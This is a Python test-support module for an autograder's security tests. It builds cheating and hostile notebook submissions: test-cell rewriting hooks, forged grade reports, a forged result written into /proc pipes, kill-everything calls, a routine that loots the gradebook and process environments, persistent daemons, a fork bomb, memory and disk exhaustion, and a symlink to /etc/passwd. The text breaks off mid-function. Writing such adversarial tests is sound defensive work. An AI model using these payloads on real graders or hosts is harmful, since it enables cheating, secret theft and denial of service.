"""Submissions that try to cheat the grader, and the means to grade a class of them (for test_attacks).

Every attack starts from the students' blank notebook of ``tiny_course`` (answers that raise
``NotImplementedError``) and adds one trick: student cells inserted before the test cells, or edits
to the file's metadata and outputs. A blank notebook earns nothing, so any point an attack earns
is a hole. Honest submissions (the solution's answers filled in) are graded in the same runs.

:class:`Grader` runs ``python -m grading`` as this process's user ("root") or through ``setpriv``
as an ordinary user ("user"), with a small environment of its own, and reads back the CSV and the
autograded notebooks. Everything here only builds files and reads results; nothing is graded in
this process.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import tiny_course
from nbformat.v4 import new_code_cell

from grading import generate

COURSE_ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = tiny_course.ASSIGNMENT
NOTEBOOK = tiny_course.NOTEBOOK
MAX_SCORE = tiny_course.MAX_SCORE
# What grading.classroom documents as a row's status.
STATUSES = {
    "graded",
    "needs manual grading",
    "timed out",
    "kernel died",
    "not submitted",
    "unreadable",
    "skipped",
    "grader error",
}
MIME = "application/vnd.nnlib-course.report+json"
# The values the hidden probes of tiny_course report for a correct answer.
RIGHT_SQUARES = [4.0, 0.25, 49.0]
SCRATCH_FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")
# A test cell of tiny_course, as a condition on its source ``_cell`` (false for the cell that says it).
IS_TEST_CELL = "'check_close(' in _cell and 'def check_close' not in _cell and '_cell' not in _cell"


def token(prefix: str = "nnlib-attack") -> str:
    """A string that appears nowhere until a test puts it somewhere."""
    return f"{prefix}-{secrets.token_hex(8)}"


# --- the course and its submissions ---------------------------------------------------------------


def new_course(folder: Path, solution_secret: str = "", verdict_secret: str = "") -> Path:
    """The tiny course in ``folder``, exercises generated; secrets hidden in an answer and in a verdict."""
    course = tiny_course.make_course(folder, COURSE_ROOT)
    if solution_secret or verdict_secret:
        path = course / "solutions" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
        master = nbformat.read(path, as_version=4)
        for cell in master.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id == "square":
                cell.source = cell.source.replace(
                    "### BEGIN SOLUTION", f"### BEGIN SOLUTION\n    # {solution_secret}"
                )
            if grade_id == "test_square":
                cell.source = cell.source.replace("### VERDICT", f"### VERDICT\n# {verdict_secret}")
        nbformat.write(master, path)
    generate.generate(course)
    return course


def blank(course: Path):
    """The students' notebook, untouched."""
    return nbformat.read(course / "exercises" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)


def honest(course: Path):
    """The students' notebook with the solution's answers filled in."""
    notebook = blank(course)
    answers = {"square": tiny_course.SQUARE, "mean": tiny_course.MEAN}
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
    return notebook


# --- the course's real exercise 6, for grading on an instructor's held-out digits -----------------

DIGITS = ("a6_training", "train_digits")  # (assignment, notebook)


def digits_course(folder: Path) -> Path:
    """A course in ``folder`` holding the real exercise 6 (its solution and hidden tests)."""
    folder.mkdir(parents=True)
    shutil.copy(COURSE_ROOT / "nbgrader_config.py", folder / "nbgrader_config.py")
    shutil.copytree(COURSE_ROOT / "solutions" / DIGITS[0], folder / "solutions" / DIGITS[0])
    generate.generate(folder)
    return folder


def digits_submission(course: Path, solved: tuple[str, ...], answers: dict[str, str] | None = None):
    """Exercise 6 with the solution's answers in the cells ``solved`` and ``answers`` in others."""
    notebook = nbformat.read(course / "exercises" / DIGITS[0] / f"{DIGITS[1]}.ipynb", as_version=4)
    master = nbformat.read(course / "solutions" / DIGITS[0] / f"{DIGITS[1]}.ipynb", as_version=4)
    sources = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell.source for cell in master.cells}
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in solved:
            cell.source = sources[grade_id]
        elif answers and grade_id in answers:
            cell.source = answers[grade_id]
    return notebook


def hand_in_digits(course: Path, student: str, notebook) -> Path:
    folder = course / "submitted" / student / DIGITS[0]
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{DIGITS[1]}.ipynb"
    nbformat.write(notebook, path)
    return path


# A 6.3 answer that does no work but looks for the grader's held-out digits (an environment
# variable, another process's environment, any readable file in the optdigits format) and trains
# on them if it finds any; it prints what it found.
HUNT_HELD_OUT = """import os
import time


def _looks_like_digits(path):
    try:
        with open(path, "rb") as handle:
            first = handle.read(400).split(b"\\n")[0].split(b",")
    except OSError:
        return False
    return len(first) == 65 and all(field.strip().isdigit() for field in first)


def _hunt():
    found = [f"env {key}" for key, value in os.environ.items() if "HELD" in key or "DIGIT" in key]
    found += [value for value in os.environ.values() if os.path.isfile(value) and _looks_like_digits(value)]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"HELD_OUT" in open(f"/proc/{pid}/environ", "rb").read():
                found.append(f"/proc/{pid}/environ")
        except OSError:
            pass
    started = time.monotonic()
    for root, folders, names in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/dev")]
        if time.monotonic() - started > 20:
            found.append("(search cut short)")
            break
        for name in names:
            if name.endswith((".py", ".pyc", ".so", ".h", ".json", ".png", ".svg", ".js", ".mo", ".gz")):
                continue
            if _looks_like_digits(os.path.join(root, name)):
                found.append(os.path.join(root, name))
    return found


def train_digit_classifier(X_train, y_train, X_val, y_val):
    found = _hunt()
    print("HUNT found:", found)
    nnlib.manual_seed(0)
    model = nnlib.nn.MLP([64, 64, 10])
    files = [path for path in found if path.startswith("/") and not path.startswith("/proc/")]
    if files:
        table = np.loadtxt(files[0], delimiter=",", dtype=int)
        optimizer = nnlib.optim.Adam(model.parameters(), lr=0.005)
        for epoch in range(30):
            train_epoch(model, optimizer, table[:, :64] / 16, table[:, 64], batch_size=32, seed=epoch)
    return model
"""


def index_of(notebook, grade_id: str) -> int:
    for index, cell in enumerate(notebook.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return index
    raise KeyError(grade_id)


def with_cells(notebook, before_square: tuple[str, ...] | str = (), before_mean: tuple[str, ...] | str = ()):
    """A copy of ``notebook`` with student cells inserted just before each test cell."""
    notebook = copy.deepcopy(notebook)
    for grade_id, sources in (("test_mean", before_mean), ("test_square", before_square)):
        sources = (sources,) if isinstance(sources, str) else sources
        at = index_of(notebook, grade_id)
        for source in reversed(sources):
            notebook.cells.insert(at, new_code_cell(source))
    return notebook


def hand_in(course: Path, student: str, notebook) -> Path:
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{NOTEBOOK}.ipynb"
    nbformat.write(notebook, path)
    return path


def report_output(name: str, value) -> dict:
    return nbformat.from_dict(
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {MIME: {"name": name, "value": value}, "text/plain": name},
        }
    )


# --- class 1: rewriting later cells from inside the kernel -----------------------------------------

INPUT_TRANSFORMER = f"""\
def _rewrite(lines):
    _cell = "".join(lines)
    if {IS_TEST_CELL}:
        # nbgrader gives full points to a test cell without an error, partial credit for a number
        return ["pass\\n"] if "square(" in _cell else ["5\\n"]
    return lines

get_ipython().input_transformers_post.append(_rewrite)
"""

AST_TRANSFORMER = f"""\
import ast

class _Neuter(ast.NodeTransformer):
    def visit_Module(self, node):
        _cell = ast.unparse(node)
        if {IS_TEST_CELL}:
            node.body = [ast.Pass()] if "square(" in _cell else [ast.Expr(ast.Constant(5))]
        return node

get_ipython().ast_transformers.append(_Neuter())
"""

CUSTOM_EXC = """\
def _swallow(shell, etype, evalue, tb, tb_offset=None):
    return None

get_ipython().set_custom_exc((BaseException,), _swallow)
"""

EXCEPTHOOK = """\
import sys
sys.excepthook = lambda *args: None
_shell = get_ipython()
_shell.showtraceback = lambda *args, **kwargs: None
_shell._showtraceback = lambda *args, **kwargs: None
_shell.showsyntaxerror = lambda *args, **kwargs: None
"""

POST_RUN_CELL = f"""\
from IPython.display import clear_output

def _after(result):
    _cell = result.info.raw_cell or ""
    if {IS_TEST_CELL}:
        clear_output()
        print("hidden tests: passed")
        if "mean(" in _cell:
            get_ipython().displayhook(5)  # an execute_result: nbgrader's partial credit

get_ipython().events.register("post_run_cell", _after)
"""

PATCHED_LIBRARIES = """\
import builtins
import math

import numpy as np

import grading.probe

np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
builtins.abs = lambda value: 0.0
grading.probe.MIME_TYPE = "text/plain"

def square(x):
    return 0.0
"""
PATCHED_MEAN = "def mean(values):\n    return 0.0"

LIARS = """\
import numpy as np

class _Liar:
    \"\"\"Equal to everything, 'close' to whatever numpy compares it with, and reports a wrong value.\"\"\"

    def __init__(self, pretend):
        self.pretend = pretend

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __float__(self):
        return float(self.pretend)

    def __array__(self, dtype=None, copy=None):
        return np.array(self.pretend, dtype=dtype)

    def __abs__(self):
        return 0.0

    def __sub__(self, other):
        return self

    __rsub__ = __sub__

    def __lt__(self, other):
        return True

    __le__ = __lt__

    def tolist(self):
        return -1.0

def square(x):
    return _Liar(9.0)
"""
LIAR_MEAN = "def mean(values):\n    return _Liar(3.0)"

SYS_EXIT = "import sys\n\nsys.exit(0)"
OS_EXIT = "import os\n\nos._exit(0)"
KILL_RUNNER_OBFUSCATED = (
    "_o = __import__('o' + 's')\ngetattr(_o, 'ki' + 'll')(getattr(_o, 'getp' + 'pid')(), 9)"
)
KILL_EVERYTHING = "import os\nimport signal\n\nos.kill(-1, signal.SIGKILL)"

STDERR = f"""\
import sys

print("hidden tests: passed", file=sys.stderr)

def _to_stderr(lines):
    _cell = "".join(lines)
    if {IS_TEST_CELL}:
        return ["import sys\\n", "print('hidden tests: passed', file=sys.stderr)\\n"]
    return lines

get_ipython().input_transformers_post.append(_to_stderr)
"""

NOISE = """\
import sys
import warnings

print("a student's debugging output", file=sys.stderr)
warnings.warn("a warning a student left in")
5
"""

# --- class 2: forging reports ---------------------------------------------------------------------

REPORTS_IN_AN_EARLIER_CELL = f"""\
from IPython.display import display

for _name, _value in [("squares", {RIGHT_SQUARES!r}), ("visible", 3.0), ("hidden", 4.5)]:
    display({{{MIME!r}: {{"name": _name, "value": _value}}, "text/plain": _name}}, raw=True)
"""

REPORT_SPRAY = f"""\
from IPython.display import display

def _report(name, value):
    display({{{MIME!r}: {{"name": name, "value": value}}, "text/plain": name}}, raw=True)

def _spray(result):
    _cell = result.info.raw_cell or ""
    if not ({IS_TEST_CELL}):
        return
    if "square(" in _cell:  # every candidate, the right one among them
        for guess in ([-2.0, 0.5, 7.0], [3.0, 3.0, 3.0], [1.0, 2.0, 3.0], [-1.0, 0.0, 1.0]):
            _report("squares", [g * g for g in guess])
    else:  # the same name twice
        _report("visible", 0.0)
        _report("visible", 3.0)
        _report("hidden", 4.5)

get_ipython().events.register("post_run_cell", _spray)
"""


def baked_outputs(notebook):
    """Reports that would pass, baked into the file's test cells and grading record; then the runner dies."""
    notebook = with_cells(notebook, before_square=KILL_RUNNER_OBFUSCATED)
    for grade_id, reports in (
        ("test_square", [("squares", RIGHT_SQUARES)]),
        ("test_mean", [("visible", 3.0), ("hidden", 4.5)]),
    ):
        cell = notebook.cells[index_of(notebook, grade_id)]
        cell.outputs = [report_output(name, value) for name, value in reports]
        cell.outputs.append(
            nbformat.from_dict({"output_type": "stream", "name": "stdout", "text": "hidden tests: passed\n"})
        )
        cell.execution_count = 1
    passed = {"passed": True, "message": "hidden tests passed"}
    notebook.metadata["grading"] = {
        "status": "graded",
        "notes": [],
        "flags": [],
        "tests": {"test_square": passed, "test_mean": passed},
        "run": {"status": "ran", "seconds": 1.0, "budget": 330, "timed_out": False, "timed_out_cells": []},
    }
    return notebook


FORGE_RESULT = """\
import json
import os
import signal

_notebook = json.load(open("/opt/submission.ipynb"))
_cells = [{{"outputs": [], "execution_count": None}} for _ in _notebook["cells"]]
for _index, _cell in enumerate(_notebook["cells"]):
    _grade_id = _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id")
    if _cell["cell_type"] != "code":
        continue
    if _grade_id == "setup":
        _cells[_index]["outputs"] = [{{"output_type": "stream", "name": "stdout", "text": {marker!r}}}] + [
            {{"output_type": "display_data", "data": {{"text/plain": "x"}}, "metadata": {{}}}}
        ] * {count}
    _wrong = {{"test_square": [("squares", [9.0] * 3)], "test_mean": [("visible", 0.0), ("hidden", 0.0)]}}
    for _name, _value in _wrong.get(_grade_id, []):
        _cells[_index]["outputs"].append(
            {{
                "output_type": "display_data",
                "metadata": {{}},
                "data": {{{mime!r}: {{"name": _name, "value": _value}}}},
            }}
        )
_forged = json.dumps({{"status": "ran", "timed_out_cells": [], "cells": _cells}})
for _channel in ("/proc/1/fd/1", "/proc/2/fd/3"):  # bwrap's init and the runner hold the result pipe
    try:
        with open(_channel, "w") as _handle:
            _handle.write(_forged)
    except OSError as _error:
        print("cannot write", _channel, type(_error).__name__)
        continue
    os.kill(-1, signal.SIGKILL)
    break
"""


def forge_result(marker: str, count: int = 0) -> str:
    """A cell that writes a runner's result of its own into the result pipe, then ends the sandbox."""
    return FORGE_RESULT.format(marker=marker + "\n", count=count, mime=MIME)


def many_outputs(marker: str, count: int) -> str:
    """``count`` tiny outputs: through the result pipe if the kernel can write it, else one display each."""
    fallback = (
        "\nfrom IPython.display import display\n\n"
        f"for _ in range({count}):\n"
        "    display({'text/plain': 'x'}, raw=True)\n"
    )
    return forge_result(marker, count) + fallback


# --- class 3 and 4: loot, and things left behind ---------------------------------------------------


def loot(course: Path, planted: list[str]) -> str:
    """Read everything of the course and the host a student might want, and print it."""
    return f"""\
import glob
import json
import os
import pathlib
import re
import sys

import nnlib

COURSE = {str(course)!r}
found = {{}}

def grab(path, limit=20000):
    try:
        with open(path, "rb") as handle:
            data = handle.read(limit)
    except OSError as error:
        found[path] = "<" + type(error).__name__ + ">"
        return
    # its printable runs, like strings(1): a binary (a gradebook) keeps its secrets, loses its bulk
    found[path] = " ".join(run.decode() for run in re.findall(rb"[ -~]{{6,}}", data))

targets = [COURSE + "/gradebook.db", COURSE + "/instructor-notes.txt", COURSE + "/nbgrader_config.py"]
targets += [COURSE + "/solutions/t1_tiny/tiny.ipynb", COURSE + "/autograded/t1_tiny.csv"]
for pattern in ("/submitted/*/t1_tiny/*", "/autograded/*/t1_tiny/*", "/solutions/*/*"):
    targets += glob.glob(COURSE + pattern)
targets += {planted!r}
course_copy = pathlib.Path(nnlib.__file__).resolve().parents[1]
targets += [str(p) for p in sorted(course_copy.parent.rglob("*")) if p.is_file() and p.suffix != ".pyc"]
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    targets += ["/proc/" + pid + "/cmdline", "/proc/" + pid + "/environ"]
    try:
        fds = "/proc/" + pid + "/fd/"
        found[fds] = str([os.readlink(fds + fd) for fd in os.listdir(fds)])
    except OSError as error:
        found[fds] = "<" + type(error).__name__ + ">"
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", os.path.expanduser("~"), "/proc/1/root"):
    targets += glob.glob(folder + "/*") + glob.glob(folder + "/.*")
skip = ("/proc", "/sys", "/usr", "/dev", os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix))
for folder, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if not os.path.join(folder, d).startswith(skip)]
    targets += [os.path.join(folder, name) for name in files if not name.endswith(".pyc")]
for target in dict.fromkeys(targets):
    grab(target)
found["environment"] = str(dict(os.environ))
found["mounts"] = open("/proc/self/mountinfo").read()
print(json.dumps(found))  # one line: the grader keeps 1000 lines of a cell's printed output
"""


def leave_behind(marker: str) -> str:
    """Write into every scratch folder and start processes meant to outlive the sandbox."""
    return f"""\
import os
import subprocess
import sys

MARKER = {marker!r}
HOME = os.path.expanduser("~")
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", HOME, "/opt/course", sys.prefix):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, MARKER), "w") as handle:
            handle.write("def square(x):\\n    return x * x\\n")
        print("wrote into", folder)
    except OSError as error:
        print("cannot write into", folder, type(error).__name__)
ignore_and_sleep = "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(600)"
sleeper = [sys.executable, "-c", ignore_and_sleep, MARKER]
subprocess.Popen(sleeper, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
os.system("nohup sh -c 'sleep 600' " + MARKER + " >/dev/null 2>&1 &")
os.system("setsid sh -c 'sleep 600' " + MARKER + "-setsid >/dev/null 2>&1 < /dev/null &")
if os.fork() == 0:  # a double fork, the classic daemon
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, sleeper[:-1] + [MARKER + "-daemon"])
    os._exit(0)
print("started")
"""


def connect_out(hosts: list[str], tcp_port: int, udp_port: int, abstract: str, marker: str) -> str:
    """Try every way out to the test's listeners, and print what happened."""
    return f"""\
import socket

MARKER = {marker!r}.encode()
for host in {hosts!r}:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.create_connection((host, {tcp_port}), timeout=3) as connection:
            connection.sendall(MARKER)
        print("tcp connected", host)
    except OSError as error:
        print("tcp failed", host, type(error).__name__)
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as datagram:
            datagram.sendto(MARKER, (host, {udp_port}))
        print("udp sent", host)
    except OSError as error:
        print("udp failed", host, type(error).__name__)
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as local:
        local.connect("\\0" + {abstract!r})
        local.sendall(MARKER)
    print("abstract socket connected")
except OSError as error:
    print("abstract socket failed", type(error).__name__)
"""


PLACES = ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "~", "~/.ipython/profile_default/startup")

LEAVE_ANSWERS = f"""\
import os

ANSWERS = "def square(x):\\n    return x * x\\n\\ndef mean(values):\\n    return sum(values) / len(values)\\n"
for place in {PLACES!r}:
    folder = os.path.expanduser(place)
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "zz_answers.py"), "w") as handle:
            handle.write(ANSWERS)
    except OSError as error:
        print("cannot leave answers in", folder, type(error).__name__)
"""

PICK_UP_ANSWERS = f"""\
import os

for place in {PLACES!r}:
    path = os.path.join(os.path.expanduser(place), "zz_answers.py")
    if os.path.exists(path):
        print("found answers in", path)
        exec(open(path).read())
"""

# --- class 7: time and resources ------------------------------------------------------------------

SLEEP = "import time\n\ntime.sleep(0.9)"


def stubborn(marker: str) -> str:
    """Ignore interrupts and terminations, and start a child that does the same, with ``marker`` in argv."""
    return STUBBORN.replace("MARKER", repr(marker))


STUBBORN = """\
import os
import signal
import subprocess
import sys
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
stubborn = "import signal, time\\nfor s in (2, 15, 1): signal.signal(s, signal.SIG_IGN)\\ntime.sleep(600)"
subprocess.Popen([sys.executable, "-c", stubborn, MARKER], start_new_session=True)
while True:
    time.sleep(0.1)
"""

FORK_BOMB = """\
import os
import time

children = []
for _ in range(1000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children.append(pid)
print("FORKED", len(children))
time.sleep(15)  # hold them while other notebooks are graded
"""

MEMORY_HOG = """\
import numpy as np

chunks = []
try:
    while len(chunks) < 64:
        chunks.append(np.empty(256 * 2**20, dtype=np.uint8))  # address space, never touched
except MemoryError:
    pass
print("ALLOCATED_MIB", 256 * len(chunks))
"""

DISK_HOG = """\
import os

written = 0
for folder in (os.path.expanduser("~"), "/tmp", "/dev/shm"):
    for index in range(20):
        try:
            with open(os.path.join(folder, f"fill{index}"), "wb") as handle:
                for _ in range(16):
                    handle.write(b"0" * 2**22)
                    written += 2**22
        except OSError as error:
            print("stopped in", folder, type(error).__name__)
            break
print("WRITTEN_MIB", written // 2**20)
"""

HUGE_OUTPUT = "print('x' * (40 * 2**20))"


# --- the catalogue ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Trick:
    """One attack on a blank notebook: what it does, how to build it, and signs in the autograded
    notebook that it really ran (each must appear in :meth:`GradingRun.output_text`; after "!", must not)."""

    what: str
    build: Callable[[Path, str], object]  # (course, marker) -> the notebook to hand in
    evidence: tuple[str, ...] = ()


def _cells(*before_square: str, before_mean: tuple[str, ...] = ()) -> Callable[[Path, str], object]:
    return lambda course, marker: with_cells(blank(course), before_square, before_mean)


FIVE = "display_data [text/plain]: 5"
KERNEL_TRICKS = {
    "k01_input_transformers": Trick(
        "input_transformers_post turns test cells into `pass` and `5`", _cells(INPUT_TRANSFORMER), (FIVE,)
    ),
    "k02_ast_transformers": Trick(
        "an AST transformer empties test cells, or leaves `5` as their value",
        _cells(AST_TRANSFORMER),
        (FIVE,),
    ),
    "k03_custom_exc": Trick(
        "set_custom_exc swallows every error", _cells(CUSTOM_EXC), ("!NotImplementedError",)
    ),
    "k04_excepthook": Trick(
        "sys.excepthook and IPython's showtraceback silenced", _cells(EXCEPTHOOK), ("!NotImplementedError",)
    ),
    "k05_post_run_cell": Trick(
        "a post_run_cell hook clears test outputs, prints 'passed', displays 5 as the cell's result",
        _cells(POST_RUN_CELL),
        ("stream []: hidden tests: passed", FIVE),
    ),
    "k06_patched_libraries": Trick(
        "numpy, math, builtins and grading.probe patched; wrong answers",
        _cells(PATCHED_LIBRARIES, before_mean=(PATCHED_MEAN,)),
        ("reported to the grader]",),
    ),
    "k07_lying_objects": Trick(
        "answers are objects whose __eq__, __float__ and __array__ lie",
        _cells(LIARS, before_mean=(LIAR_MEAN,)),
        ("got -1.0",),
    ),
    "k08_sys_exit": Trick("sys.exit(0) in a student cell", _cells(SYS_EXIT), ("SystemExit",)),
    "k09_os_exit": Trick("os._exit(0): the kernel dies", _cells(OS_EXIT)),
    "k10_kill_runner": Trick(
        "getattr(__import__('o'+'s'), 'ki'+'ll') kills the runner, the kernel's parent",
        _cells(KILL_RUNNER_OBFUSCATED),
    ),
    "k11_kill_everything": Trick("os.kill(-1, SIGKILL) from the kernel", _cells(KILL_EVERYTHING)),
    "k12_stderr": Trick(
        "test cells rewritten to print 'passed' on stderr", _cells(STDERR), ("hidden tests: passed",)
    ),
    "f01_reports_in_an_earlier_cell": Trick(
        "right-looking reports displayed in a student cell", _cells(REPORTS_IN_AN_EARLIER_CELL), (MIME,)
    ),
    "f02_report_spray": Trick(
        "a post_run_cell hook reports every candidate, and a name twice",
        _cells(REPORT_SPRAY),
        ("reported 4 times", "reported 2 times"),
    ),
    "f03_baked_outputs": Trick(
        "passing reports and a 'graded' record baked into the file; the runner is killed",
        lambda course, marker: baked_outputs(blank(course)),
    ),
    "f04_forged_result": Trick(
        "the kernel writes a result of its own into the runner's result pipe",
        lambda course, marker: with_cells(blank(course), forge_result(marker)),
    ),
}

# Malformed submissions: student -> what is wrong (hand_in_malformed builds them).
MALFORMED = {
    "m01_grade_id_list": "the test cell's grade_id is a JSON list",
    "m02_long_sum": "a valid 1000-term sum 1+1+...+1",
    "m03_metadata_stripped": "every cell's nbgrader metadata stripped",
    "m04_test_deleted": "a test cell deleted",
    "m05_duplicated_ids": "both test cells copied to the top, same grade_ids",
    "m06_test_demoted": "a test cell's metadata says grade: false",
    "m07_test_as_answer": "a test cell's metadata says solution: true",
    "m08_points_inflated": "a test worth 100 points, and a forged grading record",
    "m09_extra_graded_cell": "a graded cell of its own worth 50 points",
    "m10_answer_as_test": "the answer cell's metadata made a graded test",
    "u01_invalid_json": "not JSON",
    "u02_30_mb": "a valid 30 MB notebook",
    "u03_symlink_passwd": "the notebook is a symlink to /etc/passwd",
    "u04_symlink_solution": "the notebook is a symlink to the solution",
    "u05_nothing": "an empty assignment folder",
    "u06_linked_folder": "the assignment folder is a symlink to solutions/",
}
UNREADABLE = ("u01_invalid_json", "u02_30_mb", "u03_symlink_passwd", "u04_symlink_solution")
ODD_FOLDERS = ["with space", "-rf", "ünïcode", "a*", "x" * 120, "semi;colon"]


def _metadata(notebook, grade_id: str, **changes):
    notebook.cells[index_of(notebook, grade_id)].metadata["nbgrader"].update(changes)
    return notebook


def hand_in_malformed(course: Path) -> None:
    """Hand in every submission of :data:`MALFORMED`, the :data:`ODD_FOLDERS` and a stray file."""
    nb = blank(course)
    nb.cells[index_of(nb, "test_square")].metadata["nbgrader"]["grade_id"] = ["test_square"]
    hand_in(course, "m01_grade_id_list", nb)
    hand_in(course, "m02_long_sum", with_cells(blank(course), "+".join(["1"] * 1000)))
    nb = blank(course)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    hand_in(course, "m03_metadata_stripped", nb)
    nb = blank(course)
    del nb.cells[index_of(nb, "test_square")]
    hand_in(course, "m04_test_deleted", nb)
    nb = blank(course)
    for grade_id in ("test_mean", "test_square"):
        original = nb.cells[index_of(nb, grade_id)]
        nb.cells.insert(1, nbformat.from_dict(dict(copy.deepcopy(original), id=f"copy-{original.id}")))
    hand_in(course, "m05_duplicated_ids", nb)
    hand_in(course, "m06_test_demoted", _metadata(blank(course), "test_square", grade=False))
    hand_in(course, "m07_test_as_answer", _metadata(blank(course), "test_mean", solution=True))
    nb = _metadata(blank(course), "test_square", points=100)
    nb.metadata["grading"] = {"status": "graded", "notes": [], "flags": [], "tests": {}, "run": {}}
    hand_in(course, "m08_points_inflated", nb)
    nb = with_cells(blank(course), "pass")
    nb.cells[index_of(nb, "test_square") - 1].metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 50,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    hand_in(course, "m09_extra_graded_cell", nb)
    hand_in(
        course, "m10_answer_as_test", _metadata(blank(course), "square", grade=True, solution=False, points=2)
    )

    def folder_of(student: str) -> Path:
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        return folder

    (folder_of("u01_invalid_json") / f"{NOTEBOOK}.ipynb").write_text('{"cells": [', encoding="utf-8")
    huge = blank(course)
    huge.cells[0].source = "x" * (30 * 2**20)
    nbformat.write(huge, folder_of("u02_30_mb") / f"{NOTEBOOK}.ipynb")
    (folder_of("u03_symlink_passwd") / f"{NOTEBOOK}.ipynb").symlink_to("/etc/passwd")
    solution = course / "solutions" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    (folder_of("u04_symlink_solution") / f"{NOTEBOOK}.ipynb").symlink_to(solution)
    folder_of("u05_nothing")
    linked = course / "submitted" / "u06_linked_folder"
    linked.mkdir(parents=True)
    (linked / ASSIGNMENT).symlink_to(f"../../solutions/{ASSIGNMENT}")
    for name in ODD_FOLDERS:
        hand_in(course, name, honest(course))
    (course / "submitted" / "stray.ipynb").write_text("{}")


# --- grading a class ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Account:
    """Who runs the grader: this process's own user, or an ordinary user reached with setpriv."""

    name: str
    uid: int
    gid: int
    switch: bool  # True: run through setpriv (the tests run as root)


@dataclass
class GradingRun:
    course: Path
    returncode: int
    stdout: str
    stderr: str
    seconds: float
    rows: list[dict[str, str]] = field(default_factory=list)
    assignment: str = ASSIGNMENT
    notebook: str = NOTEBOOK

    def row(self, student: str) -> dict[str, str]:
        matching = [row for row in self.rows if row["student"] == student]
        assert len(matching) == 1, (
            f"{len(matching)} rows for {student!r}; output:\n{self.stdout}\n{self.stderr[-3000:]}"
        )
        return matching[0]

    def score(self, student: str) -> float:
        return float(self.row(student)["score"])

    def outcome(self, student: str) -> str:
        row = self.row(student)
        score = f"{row['score']}/{row['max_score']}"
        return f"{student}: {score} {row['status']!r} flags={row['flags']!r} notes={row['notes']!r}"

    def autograded(self, student: str) -> Path:
        return self.course / "autograded" / student / self.assignment / f"{self.notebook}.ipynb"

    def notebook_text(self, student: str) -> str:
        path = self.autograded(student)
        return path.read_text(errors="replace") if path.is_file() else ""

    def record(self, student: str) -> dict:
        text = self.notebook_text(student)
        return json.loads(text).get("metadata", {}).get("grading", {}) if text else {}

    def output_text(self, student: str) -> str:
        """Every output of the student's autograded notebook, one ``kind [mime types]: text`` line each.

        Then the notebook's grading record, as JSON.
        """
        text = self.notebook_text(student)
        if not text:
            return ""
        notebook = json.loads(text)
        lines = []
        for cell in notebook["cells"]:
            for output in cell.get("outputs", []):
                data = output.get("data", {})
                body = output.get("text") or data.get("text/plain") or ""
                body = "".join(body) if isinstance(body, list) else str(body)
                if output.get("output_type") == "error":
                    body = f"{output.get('ename')}: {output.get('evalue')}"
                lines.append(f"{output.get('output_type')} [{', '.join(data)}]: {body}")
        lines.append(json.dumps(notebook.get("metadata", {}).get("grading", {})))
        return "\n".join(lines)


class Timeline(threading.Thread):
    """Polls a grading run: when each autograded notebook first appears, and when each CSV row does."""

    def __init__(self, course: Path, students: list[str], interval: float = 0.2):
        super().__init__(daemon=True)
        self.course, self.students, self.interval = course, students, interval
        self.started_at = time.monotonic()
        self.notebook_seen: dict[str, float] = {}
        self.row_seen: dict[str, float] = {}
        self._stop_event = threading.Event()

    def run(self) -> None:
        csv_path = self.course / "autograded" / f"{ASSIGNMENT}.csv"
        while not self._stop_event.is_set():
            now = time.monotonic() - self.started_at
            for student in self.students:
                path = self.course / "autograded" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
                if student not in self.notebook_seen and path.exists():
                    self.notebook_seen[student] = now
            try:
                lines = csv_path.read_text().splitlines()[1:]
            except OSError:
                lines = []
            for line in lines:
